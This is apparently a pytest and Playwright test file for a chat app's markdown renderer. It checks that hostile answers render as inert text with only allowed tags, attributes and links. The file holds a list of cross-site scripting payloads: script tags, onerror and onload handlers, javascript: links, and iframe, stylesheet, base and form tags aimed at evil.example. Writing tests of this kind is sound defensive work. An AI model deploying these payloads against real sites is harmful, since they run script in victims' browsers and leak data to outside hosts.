"""Model text on the page: whatever it holds, it is shown, runs nothing and asks for nothing from elsewhere."""

import asyncio
from contextlib import suppress
from typing import Any

import pytest
from playwright.async_api import Browser, expect

from tests.daemons import SOMEBODY, Running
from tests.e2e.conftest import Visit
from tests.e2e.hostile import COUNT, answers, living
from tests.e2e.person import DEADLINE, Person
from tests.page import page

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe src='https://evil.example/'></iframe>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<form action=https://evil.example/><input autofocus onfocus=alert(1)></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "![a cat](https://evil.example/cat.png?secret=1 'title') and ![a dog][1]\n\n[1]: https://evil.example/dog.png",
    "[run](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [own](/v1/models) [vb](vbscript:x)",
    "<a href='jav&#x09;ascript:alert(1)' onclick=alert(1)>x</a> <javascript:alert(1)>",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "`<img src=x onerror=alert(1)>` | <details open ontoggle=alert(1)>\n--|--\n1|<img src=x onerror=alert(1)>",
    "<code><img src=x onerror=alert(1)> & <b>never closed",
    "\\(<img src=x onerror=alert(1)> \\text{<script>alert(1)</script>}\\) "
    "$$\\begin{matrix}<svg onload=alert(1)>\\end{x}$$",
    "a <kbd onclick=alert(1)>key</kbd> <sub style='position:fixed'>x</sub><br onload=alert(1)>",
)
INSPECT = """async ({ base, text }) => {
    const { render } = await import(base + "chat/markdown.js");
    const place = document.body.appendChild(document.createElement("div"));
    for (let end = 1; end <= text.length; end += 3) render(place, text.slice(0, end));
    render(place, text);
    const all = [...place.querySelectorAll("*")];
    const found = {
        tags: all.map((each) => each.localName),
        attributes: all.flatMap((each) => each.getAttributeNames()),
        links: all.filter((each) => each.href).map((each) => [each.href.baseVal ?? each.href, each.target, each.rel]),
        text: place.innerText,
        html: place.innerHTML,
        fresh: (render(place, ""), render(place, text), place.innerHTML),
    };
    place.remove();
    return found;
}"""
ELEMENTS = set(
    "a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr kbd li ol p pre span strong sub "
    "sup svg table tbody td th thead tr ul use".split()
)
MATHS = set(
    "math mfrac mi mn mo mover mroot mrow mspace msqrt msub msubsup msup mtable mtd mtext mtr "
    "munder munderover".split()
)
ATTRIBUTES = set(
    "accent align aria-hidden aria-label class data-action data-lang data-large dir display href linethickness rel "
    "role start stretchy tabindex target title translate type".split()
)


LEFT = """([elements, attributes]) => {
    const all = [...document.querySelectorAll(".bramble .text *")];
    const beside = (names, known) => [...new Set(names)].filter((name) => !known.includes(name));
    return {
        pwned: "pwned" in window,
        elements: beside(all.map((each) => each.localName), elements),
        attributes: beside(all.flatMap((each) => each.getAttributeNames()), attributes),
        links: all.map((each) => each.href || "https:").filter((to) => to.match && !/^(https?|mailto):/.test(to)),
    };
}"""


FRAMES = """(all) => {
    for (const srcdoc of all) document.body.append(Object.assign(document.createElement("iframe"), { srcdoc }));
}"""
RAN = """() => [...document.querySelectorAll("iframe")].filter((each) => {
    try { return "pwned" in each.contentWindow } catch { return false } // it went elsewhere
}).length"""


async def show(person: Person, text: str) -> dict[str, Any]:
    """What the page makes of `text`, streamed in small steps."""
    return await person.page.evaluate(INSPECT, {"base": await person.base(), "text": text})


async def test_hostile_text_is_only_text(daemon: Running, visit: Visit) -> None:
    person = await (await visit(daemon.url)).ready()
    person.page.on("dialog", lambda _: pytest.fail("a script ran"))
    for text in HOSTILE:
        found = await show(person, text)
        assert set(found["tags"]) <= ELEMENTS | MATHS, text
        assert set(found["attributes"]) <= ATTRIBUTES, text
        assert found["html"] == found["fresh"], text
        for address, target, rel in found["links"]:
            assert address.startswith(("https://", "mailto:", "#icon-")), text
            assert address.startswith("#") or (target, rel) == ("_blank", "noopener noreferrer")


async def test_html_is_shown_as_it_was_written(daemon: Running, visit: Visit) -> None:
    person = await (await visit(daemon.url)).ready()
    found = await show(person, 'Write <b class="x">bold</b> so.\n\n<div>\n**strong**\n</div>')
    assert '<b class="x">bold</b>' in found["text"]
    assert "<div>" in found["text"] and "strong" in found["tags"]


async def test_images_become_their_words(daemon: Running, visit: Visit) -> None:
    person = await (await visit(daemon.url)).ready()
    found = await show(person, '![a <b> "cat"](https://evil.example/cat.png)')
    assert (found["tags"], found["text"]) == (["p"], 'a <b> "cat"')


async def test_unchanged_blocks_keep_their_elements(daemon: Running, visit: Visit) -> None:
    person = await (await visit(daemon.url)).ready()
    script = """async (base) => {
        const { render } = await import(base + "chat/markdown.js");
        const place = document.createElement("div");
        render(place, "One.\\n\\n```py\\na = 1");
        const [first, code] = place.children;
        const letters = code.querySelector("code").firstChild;
        render(place, "One.\\n\\n```py\\na = 1\\nb = 2\\n```\\n\\nThree.");
        const [same, grown, third] = place.children;
        return [same === first, grown === code, grown.querySelector("code").firstChild === letters,
                code.querySelector("code").textContent,
                third.textContent];
    }"""
    result = await person.page.evaluate(script, await person.base())
    assert result == [True, True, True, "a = 1\nb = 2", "Three."]


async def test_half_a_list_is_never_a_heading(daemon: Running, visit: Visit) -> None:
    person = await (await visit(daemon.url)).ready()
    assert (await show(person, "Rice:\n-"))["tags"][0] == "p"


async def test_a_text_that_grows_ends_as_it_would_have_begun(daemon: Running, visit: Visit) -> None:
    person = await (await visit(daemon.url)).ready()
    text = (
        "One.\n\n- a\n- b\n\n  still b\n\n1. x\n\n   ```js\n   let y = `1`;\n   ```\n\n2. z\n\n> q\n> r\n\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```sql\nselect 1 -- one\n\nfrom t\n```\nText\n***\n    code\n\n"
        "$$\na\n\n+ b\n$$\n\nSee [1].\n\n[1]: https://example.org/\n\n~~~\nopen"
    )
    for size in (1, 3, 17):
        script = """async (base, text, size) => {
            const { render } = await import(base + "chat/markdown.js");
            const [grown, fresh] = [document.createElement("div"), document.createElement("div")];
            for (let end = size; end < text.length; end += size) render(grown, text.slice(0, end));
            render(grown, text);
            render(fresh, text);
            return [grown.innerHTML, fresh.innerHTML];
        }"""
        grown, fresh = await person.run(script, text, size)
        assert grown == fresh


async def test_code_is_coloured_and_copied_as_it_was_written(daemon: Running, visit: Visit) -> None:
    person = await (await visit(daemon.url)).ready()
    code = "def f(x):  # one\n    return 'a' + \"b\" * 2\n"
    await person.page.evaluate(
        "navigator.clipboard.writeText = async (text) => { document.body.title = text }"
    )
    await person.ask(f"repeat 3 ```python\n{code}```")
    block = person.texts.last.locator("code")
    assert await block.text_content() == code.rstrip("\n")
    for kind, words in (
        ("keyword", ["def", "return"]),
        ("string", ["'a'", '"b"']),
        ("comment", ["# one"]),
        ("number", ["2"]),
    ):
        await expect(block.locator(f".{kind}")).to_have_text(words)
    await person.texts.last.get_by_role("button", name="Copy").click()
    await expect(person.page.locator("body")).to_have_attribute("title", code.rstrip("\n"))


async def test_formulas_are_drawn_and_prices_are_not(daemon: Running, visit: Visit) -> None:
    person = await (await visit(daemon.url)).ready()
    found = await show(
        person, r"So \(x_1^2 \le \frac{a*b}{2}\), $e^{i\pi} = -1$ and it costs $5 or $6."
    )
    assert found["tags"].count("math") == 2
    assert {"msubsup", "mfrac", "msup"} <= set(found["tags"])
    assert "em" not in found["tags"]
    assert "it costs $5 or $6." in found["text"]
    found = await show(
        person,
        r"\[\sum_{n=1}^{\infty} \frac{1}{n^2} = \begin{cases} 1 & a \\ 2 & b \end{cases} \left( \sqrt[3]{x} \right)"
        r" \unknown\]",
    )
    assert {"munderover", "mtable", "mroot"} <= set(found["tags"])
    assert "\\unknown" in found["text"]


async def test_two_hundred_hostile_answers_run_nothing_and_ask_nobody(
    daemon: Running, visit: Visit
) -> None:
    """As they are stored, and once more as they are written; who asks elsewhere fails in `visit`."""
    cookie = SOMEBODY["Cookie"].partition("=")[2]
    texts = answers()
    async with page(daemon.http, daemon.url) as teller:
        id = (await teller.say("say 1"))["conversation"]
        await teller.until("done")
        for text in texts:
            assert (await teller.ask(f"repeat 999 {text}", id))[1] == text
        person = await visit(f"{daemon.url}/#/{id}", cookie=cookie)
        person.page.on("dialog", lambda _: pytest.fail("a script ran"))
        await expect(person.answers).to_have_count(COUNT + 1)
        await person.page.wait_for_function(
            "() => [...document.querySelectorAll('.bramble .text')].every((each) => each.innerHTML)"
        )
        await person.say(f"repeat 7 {' '.join(texts[::5])}")
        await person.answered()
    for _ in range(3):
        await person.page.keyboard.press("Tab")
    found = await person.page.evaluate(LEFT, [sorted(ELEMENTS | MATHS), sorted(ATTRIBUTES)])
    assert found == {"pwned": False, "elements": [], "attributes": [], "links": []}


async def test_taken_for_html_the_same_would_run_and_ask(browser: Browser) -> None:
    """So the answers above are hostile: of those that need no click most do what they are for."""
    context = await browser.new_context()
    await context.route("https://evil.example/**", lambda route: route.abort())
    asked: set[str] = set()
    context.on("request", lambda request: asked.add(request.url))
    page = await context.new_page()
    await page.evaluate(FRAMES, living())
    ran = 0
    with suppress(TimeoutError):
        async with asyncio.timeout(DEADLINE / 1000):
            while ran < 25 or len(asked) < 20:
                ran = await page.evaluate(RAN)
    await context.close()
    assert ran >= 25 and len(asked) >= 20
